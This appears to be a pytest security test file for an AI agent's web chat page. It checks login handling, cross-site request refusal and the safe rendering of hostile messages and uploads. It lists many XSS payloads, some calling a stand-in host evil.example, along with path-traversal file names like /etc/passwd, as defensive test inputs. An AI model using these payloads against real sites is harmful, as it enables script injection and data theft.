"""What attackers can do with the page: sign-in, requests of other sites, hostile text."""

from __future__ import annotations

import hashlib
import json
import re
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlencode

import httpx
import pytest

from nanobot_core.testing import FakeGateway, FakePluginContext, Reply, ScriptedCall
from nanobot_page.app import is_open, routes

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from conftest import Site

pytestmark = pytest.mark.timeout(120)
JSON = {"content-type": "application/json"}


@pytest.fixture(scope="module")
def cookies(site: Site) -> dict[str, str]:
    return site.cookie()


def client(site: Site, cookies: dict[str, str] | None = None) -> httpx.Client:
    return httpx.Client(base_url=site.url, cookies=cookies, trust_env=False, timeout=60)


def test_nothing_but_the_sign_in_works_without_a_login(site: Site, tmp_path: Path) -> None:
    ctx = FakePluginContext(tmp_path, settings={}, gateway=FakeGateway())
    table = {(method, route.path) for route in routes(ctx) for method in route.methods or ()}
    assert {("GET", "/web/events"), ("POST", "/setup"), ("POST", "/desk/install")} < table
    with client(site, {"nanobot_1": "guess", "nanobot_80": "guess"}) as stranger:
        for method, path in {*table, ("GET", "/unknown"), ("GET", "/desk/unknown")}:
            if is_open(path):
                continue
            answer = stranger.request(method, path)
            assert answer.status_code in (303, 401), (method, path, answer.text)
            assert answer.headers.get("location", "/login") == "/login"
            assert "default-src 'none'" in answer.headers["content-security-policy"]


def test_a_code_works_once_and_only_by_post(site: Site) -> None:
    code = site.link().partition("#code=")[2]
    with client(site) as guest:
        assert "set-cookie" not in guest.get(f"/login?code={code}").headers
        first = guest.post("/login", json={"code": code})
        cookie = first.headers["set-cookie"]
        assert first.status_code == 200
        assert "HttpOnly" in cookie
        assert "SameSite=strict" in cookie
        assert "Domain" not in cookie
        guest.cookies.clear()
        assert guest.post("/login", json={"code": code}).status_code == 401
        assert guest.post("/login", data={"code": code}).status_code == 415
    log = (site.home / "logs/nanobot.log").read_text("utf-8")
    assert code not in log
    stored = (site.home / "plugins/page/logins.json").read_text("utf-8")
    assert cookie.partition("=")[2].partition(";")[0] not in stored


def test_the_owner_signs_in_with_the_link_or_the_password(site: Site, browser: Browser) -> None:
    context = browser.new_context(base_url=site.url)
    sent: list[str] = []
    context.on("request", lambda one: sent.append(f"{one.url} {one.headers.get('referer')}"))
    page = context.new_page()
    page.set_default_timeout(60_000)
    link = site.link()
    page.goto(link)
    page.wait_for_selector("#text")
    page.go_back()  # leads to where it was before the link
    assert page.url == "about:blank"
    page.goto("/logins")
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/login")
    for password in ("incorrect horse", "correct horse battery"):
        page.get_by_label("Password", exact=True).fill(password)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_selector("text=Not signed in" if "incorrect" in password else "#text")
    code = link.partition("#code=")[2]
    assert not [one for one in sent if code in one.replace(link, "")]
    context.close()


def test_the_link_works_in_the_tab_that_asks_for_it(site: Site, browser: Browser) -> None:
    link = site.link()
    for shown in ("#text", "text=used up"):
        context = browser.new_context()
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.goto(site.url)
        page.wait_for_url("**/login")
        page.goto(link)  # changes only the fragment, so that the page is not loaded again
        page.wait_for_selector(shown)
        assert "code" not in page.url
        page.go_back()
        assert page.url == f"{site.url}/login"
        context.close()


def test_only_the_terminal_gets_a_link(site: Site, cookies: dict[str, str]) -> None:
    with client(site, cookies) as owner:
        page = owner.get("/").text
        token = page.partition('data-token="')[2].partition('"')[0]
        key = page.partition('data-key="')[2].partition('"')[0]
        message = {
            "id": "01234567-89ab-cdef-0123-456789abcdef",
            "session": key,
            "text": "/web-login",
        }
        sent = owner.post("/web/messages", json=message, headers={"x-nanobot-token": token})
        assert sent.status_code == 202

        def shown() -> str:
            return str(owner.get("/web/snapshot", params={"s": key}).json()["html"])

        site.until(lambda: "terminal only" in shown())
        assert "#code=" not in shown()
        # The same message again is stored once.
        again = owner.post("/web/messages", json=message, headers={"x-nanobot-token": token})
        assert again.json()["stored"] is False


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"origin": "https://evil.example"}, 403),
        ({"origin": "null"}, 403),
        ({"origin": "http://127.0.0.1:1"}, 403),
        ({"sec-fetch-site": "same-site"}, 403),
        ({"x-nanobot-token": "wrong"}, 403),
        ({"content-type": "text/plain"}, 415),
        ({"host": "evil.example"}, 400),
    ],
)
def test_requests_of_other_sites_are_refused(
    site: Site, cookies: dict[str, str], headers: dict[str, str], status: int
) -> None:
    with client(site, cookies) as owner:
        token = owner.get("/").text.partition('data-token="')[2].partition('"')[0]
        proof = {"x-nanobot-token": token, **JSON}
        right = owner.post("/web/stop", content='{"session": "web:none"}', headers=proof)
        assert right.status_code == 202
        wrong = owner.post(
            "/web/stop", content='{"session": "web:none"}', headers={**proof, **headers}
        )
    assert wrong.status_code == status, wrong.text


def test_wrong_requests_get_clear_answers(site: Site, cookies: dict[str, str]) -> None:
    with client(site, cookies) as owner:
        token = owner.get("/").text.partition('data-token="')[2].partition('"')[0]
        proof = {"x-nanobot-token": token, **JSON}
        uuid = "01234567-89ab-cdef-0123-456789abcd00"
        cases = (
            ("/web/messages", "[" * 100_000, 400),
            ("/web/messages", {"id": "x", "session": "web:12345678"}, 400),
            ("/web/messages", {"id": uuid, "session": "cli:direct", "text": "x"}, 404),
            ("/web/messages", {"id": uuid, "session": "web:12345678", "text": " "}, 400),
            ("/web/messages", {"id": uuid, "session": "web:12345678", "files": ["../x"]}, 404),
            ("/web/messages", "x" * 600_000, 413),
            ("/web/sessions", {"session": "web:none", "do": "delete"}, 404),
            ("/web/sessions", {"session": "web:none", "do": "branch", "index": 3}, 409),
            ("/web/approvals", {"question": "x", "digest": "x", "allowed": True}, 404),
        )
        for path, body, status in cases:
            content = body if isinstance(body, str) else json.dumps(body)
            answer = owner.post(path, content=content, headers=proof)
            assert answer.status_code == status, (path, body, answer.text)
            assert answer.json()["error"]
        query = {"id": uuid, "at": "0", "size": "30000000", "name": "x"}
        assert owner.post("/web/files", params=query, headers=proof).status_code == 413
        query["size"] = "6"
        for at, piece, have in ((0, b"abc", 3), (0, b"abc", 3), (3, b"def", 6), (3, b"def", 6)):
            query["at"] = str(at)
            sent = owner.post("/web/files", params=query, content=piece, headers=proof)
            assert sent.json()["at"] == have
        file = sent.json()["file"]
        assert owner.get("/web/files", params={"id": file}).content == b"abcdef"


def test_revoking_a_login_ends_its_streams(site: Site) -> None:
    doomed, kept = site.new_cookie(), site.cookie()
    with (
        client(site, doomed) as first,
        client(site, kept) as second,
        first.stream("GET", "/web/events") as stream,
    ):
        lines = stream.iter_lines()
        assert next(lines).startswith("retry")
        page = second.get("/logins").text
        token = page.partition('name="token" value="')[2].partition('"')[0]
        shown = set(re.findall(r'name="id" value="([0-9a-f]{64})"', page))
        ended, own = (
            hashlib.sha256(one.encode()).hexdigest() for one in (*doomed.values(), *kept.values())
        )
        assert {ended, own} <= shown
        form = {"id": ended, "token": token}
        assert second.post("/logins", data=form).status_code == 303
        for _ in lines:
            pass  # until the server ends it
        assert first.get("/web/since").status_code == 401
        assert second.get("/web/since").status_code == 200
        assert second.post("/logins", data={"id": own, "token": "x"}).status_code == 403


ATTACKS = (
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg onload=hacked()>",
    "<a href='javascript:hacked()'>x</a>",
    "[x](javascript:hacked())",
    "[x](JaVaScRiPt:hacked())",
    "[x](data:text/html,<script>hacked()</script>)",
    "[x](vbscript:hacked())",
    "![x](http://evil.example/?q=secret)",
    "![x](javascript:hacked())",
    "<iframe srcdoc='<script>hacked()</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>x</button></form>",
    "<object data=http://evil.example></object>",
    "<video src=http://evil.example/x autoplay></video>",
    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
    "</template><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "</article></div></main><script>hacked()</script>",
    '"><script>hacked()</script>',
    "' onmouseover=hacked() autofocus onfocus=hacked() x='",
    '```"><script>hacked()</script>\nx\n```',
    "```html\n<script>hacked()</script>\n```",
    '<https://evil.example/"onmouseover=hacked()>',
    "[a]: javascript:hacked()\n\n[a]",
    "`<script>hacked()</script>`",
    "{{ 7 * 7 }}{% raw %}",
    "<details open ontoggle=hacked()>",
    "<x style=background:url(http://evil.example)>",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "<!--><script>hacked()</script>-->",
    "\u202e<script>hacked()</script>",
    "<scr\x00ipt>hacked()</script>",
    "# <img src=x onerror=hacked()>",
    "| <img src=x onerror=hacked()> |\n| - |\n| <svg/onload=hacked()> |",
    "> <iframe src=javascript:hacked()>",
    "1. <body onload=hacked()>",
)
FRAMES = ("{}", "text before {} after", "**{}**", "\n\n{}\n\n", "> {}")


def test_hostile_messages_execute_and_fetch_nothing(site: Site, page: Page) -> None:
    corpus = [frame.replace("{}", attack) for attack in ATTACKS for frame in FRAMES]
    assert len(corpus) == 200
    site.model.script.replies["attack"] = Reply(
        text="\n\n---\n\n".join(corpus), reasoning="\n".join(ATTACKS), chunk_chars=400
    )
    call = ScriptedCall(name="list_dir", arguments=json.dumps({"path": "".join(ATTACKS)}))
    site.model.script.replies["call"] = Reply(calls=(call,))
    name = ScriptedCall(name="<script>hacked()</script>", arguments="{<script>hacked()</script>")
    site.model.script.replies["name"] = Reply(calls=(name,))
    page.goto("/")
    answers = page.locator("#log > .assistant:not(.live)")
    for count, text in enumerate(("attack", "call", "name", ATTACKS[0]), 1):
        page.fill("#text", text)
        page.press("#text", "Enter")
        page.wait_for_function(
            "(n) => !document.querySelector('.live') &&"
            " document.querySelectorAll('#log > .user[data-index]').length === n",
            arg=count,
        )
    assert answers.count() >= 4
    for details in page.locator("details").all():
        details.evaluate("(element) => (element.open = true)")
    page.reload()
    page.wait_for_selector("#log > .assistant")
    key = page.get_attribute("#chat", "data-key")
    token = page.get_attribute("#chat", "data-token") or ""
    for title in ATTACKS[:6]:
        change = {"session": key, "do": "rename", "title": title}
        renamed = page.context.request.post(
            f"{site.url}/web/sessions", data=change, headers={"x-nanobot-token": token}
        )
        assert renamed.ok
        page.reload()
    bad = page.evaluate(
        "[...document.querySelectorAll('#log *')].filter((e) => /^(script|iframe|object|embed|form"
        "|style|link|meta|base|img|svg|video|math)$/i.test(e.localName) ||"
        " [...e.attributes].some((a) => /^on/i.test(a.name) || /^\\s*(javascript|data|vbscript):/i"
        ".test(a.value))).map((e) => e.outerHTML)"
    )
    assert bad == []


NAMES = (
    *ATTACKS[:11],
    "../../config.json",
    "..",
    "/etc/passwd",
    "a\0b",
    "C:\\x\\..\\y.exe",
    "\u202egnp.exe",
    "x" * 5_000,
    "page.html",
    "picture.svg",
)
FILE = "<svg xmlns='http://www.w3.org/2000/svg' onload='hacked()'><script>hacked()</script></svg>"


def test_hostile_files_are_only_ever_data(site: Site, page: Page) -> None:
    from playwright.sync_api import expect

    page.goto("/")
    key, token = (page.get_attribute("#chat", f"data-{name}") for name in ("key", "token"))
    proof = {"x-nanobot-token": token or ""}
    post, files = page.context.request.post, []
    before = {*site.home.parent.rglob("*")}
    for name in NAMES:
        about = {"id": str(uuid.uuid4()), "at": "0", "size": str(len(FILE)), "name": name}
        query = urlencode(about)
        sent = post("/web/files", params=query, data=FILE.encode(), headers=proof)
        files.append(sent.json()["file"])
    new = {path for path in {*site.home.parent.rglob("*")} - before if path.is_file()}
    stored = {path for path in new if path.read_bytes() == FILE.encode()}
    assert {path.parent.name for path in stored} == {*files}
    assert {path.parent.parent for path in stored} == {site.home / "media"}
    assert all(len(path.name.encode()) <= 255 for path in stored)
    body = {"id": str(uuid.uuid4()), "session": key, "text": "keep them", "files": files}
    assert post("/web/messages", data=body, headers=proof).status == 202
    page.goto(f"/chat?s={key}")
    links = page.locator(".user[data-index] a.file")
    expect(links).to_have_count(len(NAMES))
    assert page.locator(".user img, .user svg, .user script").count() == 0
    assert "\u202e" not in page.inner_text(".user")
    for link in links.all():
        answer = page.context.request.get(str(link.get_attribute("href")))
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_axe_finds_nothing(site: Site, page: Page, check_access: Callable[..., None]) -> None:
    text = (
        "# Head\n\n```python\ndef f(): return 'x' # y\n```\n\n| a |\n| - |\n| b |\n\n"
        "[l](https://x.org)"
    )
    call = ScriptedCall(name="write_file", arguments='{"path": "x", "content": "y"}')
    site.model.script.replies["show"] = Reply(text=text, reasoning="Hm.")
    site.model.script.replies["ask"] = Reply(text="I ask.", calls=(call,))
    page.goto("/")
    check_access(page)
    page.wait_for_selector("#connection[data-state]", state="attached")
    for text, shown in (("show", "table"), ("/help", ".notice"), ("ask", ".approval")):
        page.fill("#text", text)
        page.press("#text", "Enter")
        page.wait_for_selector(f"#log {shown}")
    page.evaluate("document.querySelectorAll('details').forEach((e) => (e.open = true))")
    check_access(page, is_thorough=True)
    page.get_by_role("button", name="Deny").click()
    for path in ("/login", "/logins", "/setup"):
        page.goto(path)
        check_access(page)
